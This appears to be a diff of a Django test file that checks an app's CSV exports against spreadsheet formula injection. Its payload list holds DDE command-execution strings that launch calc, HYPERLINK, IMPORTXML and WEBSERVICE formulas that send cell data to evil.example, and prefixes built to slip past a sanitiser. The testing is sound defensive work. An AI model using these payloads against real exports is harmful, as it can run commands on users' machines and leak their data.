@@ -1,29 +1,41 @@
-"""A22: nothing that people typed is run by the spreadsheet in which somebody opens a list."""
+"""A22: nothing that people typed is run as a formula by the spreadsheet in which somebody opens an export."""
 
 from __future__ import annotations
 
 import csv
 import io
+import re
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
-from django.http import HttpResponse
+from django.test import Client
 from django.urls import reverse
+from django.utils import timezone
 
+import pactdesk
+from pactdesk.accounts.models import Account, Organization
+from pactdesk.agreements import ledger
 from pactdesk.cases.models import Case
 from pactdesk.pages.spreadsheet import as_text
 from tests import world
 from tests.conversations import sent
+from tests.doors.test_who_may_open_what import patterns
 from tests.doors.visitors import visitor
 
 FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
 CALLS = (
     "cmd|' /C calc'!A0",
     'HYPERLINK("https://evil.example/?"&A1,"ok")',
+    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
     "1+1",
     'WEBSERVICE("https://evil.example/")',
     "SUM(1)*cmd|'/c x'!A0",
+    'DDE("cmd";"/C calc";"x")',
 )
-BEFORE = (
+# What may stand before a formula without keeping a spreadsheet from running it, and what begins another cell.
+PASSED_OVER = (
     "",
     " ",
     "\t",
@@ -35,15 +47,17 @@ BEFORE = (
     "''",
     ' "',
     "\t ",
-    "x;",
-    "x\t",
-    "x\n",
-    "x|",
-    'x;"',
-    "x; ",
-    "x\r",
+    "\xa0",
+    "\u3000",
+    "\ufeff",
+    "\u200b",
+    "\x0b",
 )
-PAYLOADS = [f"{before}{sign}{call}" for before in BEFORE for sign in FORMULAS for call in CALLS]
+BREAKS_OUT = ("x;", "x\t", "x\n", "x|", 'x;"', "x; ", "x\r", "x;\xa0", 'x","', 'x";"', "x,", "x\t\u200b")
+PAYLOADS = [
+    f"{before}{sign}{call}" for before in PASSED_OVER + BREAKS_OUT for sign in FORMULAS for call in CALLS
+]
+UNSEEN = ' \t\r\n\x0b\xa0\u3000\ufeff\u200b"'
 
 
 def cells(line: str, separator: str) -> list[str]:
@@ -61,7 +75,7 @@ def test_no_cell_begins_like_a_formula_wherever_the_spreadsheet_splits(separator
         csv.writer(line).writerow(["PD-1", as_text(payload), "B"])
         # A comma inside is quoted for those who split at commas, and no boundary for others.
         for cell in cells(line.getvalue(), separator):
-            if cell.lstrip(' \t\r\n"').startswith(FORMULAS):
+            if cell.lstrip(UNSEEN).startswith(FORMULAS):
                 wrong.append((payload, cell))
     assert not wrong, wrong[:5]
 
@@ -81,21 +95,69 @@ def test_what_is_harmless_stays_as_it_is() -> None:
         assert as_text(text) == text
 
 
-@pytest.mark.django_db
-@pytest.mark.parametrize("language", ["en", "el", "cs"])
-def test_the_list_of_requests_is_harmless_in_every_language(language: str) -> None:
-    plan = world.agreement(units=9, registered=["carla"])
-    for payload in ("=1+1", "x;=1+1", "+cmd|' /C calc'!A0", "＝1+1"):
-        case = sent(plan)
-        Case.objects.filter(pk=case.pk).update(summary=payload)
-    carla = visitor("carla")
-    carla.post(reverse("set_language"), {"language": language})
-    response: HttpResponse = carla.get(reverse("portal:request-list-csv"))
+# All tables that this house gives away, and to whom in this test.
+TABLES = {
+    "portal:benefit-statement": "carla",
+    "portal:request-list-csv": "carla",
+    "desk:queue-export": "ines",
+}
+
+
+def test_every_table_that_can_be_fetched_is_looked_at_here() -> None:
+    assert {
+        name for name, address, _parameters in patterns() if re.search(r"csv|xls|ods|export", address)
+    } == set(TABLES)
+    sources = Path(pactdesk.__file__).parent.rglob("*.py")
+    writing = {
+        path.stem
+        for path in sources
+        if re.search(r"import csv|text/csv|xlsx|spreadsheetml", path.read_text())
+    }
+    assert writing == {"spreadsheet"}
+
+
+def rows(client: Client, address: str) -> Iterator[list[str]]:
+    response = client.get(address)
+    assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert response["Content-Disposition"] == 'attachment; filename="pactdesk-requests.csv"'
+    assert re.fullmatch(r'attachment; filename="[a-z0-9-]+\.csv"', response["Content-Disposition"])
+    assert response["X-Content-Type-Options"] == "nosniff"
     assert response["Cache-Control"] == "private, no-store"
-    text = response.content.decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(text)))
-    assert {row[1] for row in rows[1:]} == {"'=1+1", "x;'=1+1", "'+cmd|' /C calc'!A0", "'＝1+1"}
-    for separator in (",", ";", "\t"):
-        assert not [cell for cell in cells(text, separator) if cell.lstrip(' "').startswith(FORMULAS)]
+    return csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("language", ["en", "el"])
+def test_no_cell_of_any_table_is_run(language: str) -> None:
+    """Each payload in each column that people fill; the numbers of a statement stay numbers."""
+    plan = world.agreement(units=400, owner="carla", registered=["carla"])
+    first, carla, at = sent(plan), world.viewer("carla"), timezone.now()
+    payloads = PAYLOADS[:: 9 if language == "en" else 29]
+    browsers = {who: visitor(who) for who in TABLES.values()}
+    Organization.objects.filter(pk=world.person("carla").organization_id).update(name=payloads[0])
+    Account.objects.filter(pk=carla.account_id).update(first_name="=1+1", last_name="@SUM(1)")
+    for place, payload in enumerate(payloads):
+        ledger.adjust(
+            plan.id, units=-1, key=f"adjust:{place}", actor_id=carla.account_id, at=at, note=payload
+        )
+    # Only what the queue shows counts here, so the rows are copied rather than sent one by one.
+    copies = []
+    for payload in payloads[:40]:
+        copy = Case.objects.get(pk=first.pk)
+        copy.pk, copy.draft_key, copy.summary, copy.night_name = None, uuid.uuid4(), payload, payload
+        copies.append(copy)
+    Case.objects.bulk_create(copies)
+    wrong, cells, balances = [], 0, set()
+    for name, who in TABLES.items():
+        browser = browsers[who]
+        browser.post(reverse("set_language"), {"language": language})
+        address = reverse(name, args=[plan.id] if "benefit" in name else [])
+        for row in rows(browser, f"{address}?view=all" if who == "ines" else address):
+            for cell in row:
+                cells += 1
+                balances.add(cell)
+                if cell.lstrip(UNSEEN).startswith(FORMULAS) and not re.fullmatch(r"[+-]?\d+", cell):
+                    wrong.append(f"{name}: {cell!r}")
+    assert wrong == []
+    assert cells > 400
+    assert "-1" in balances
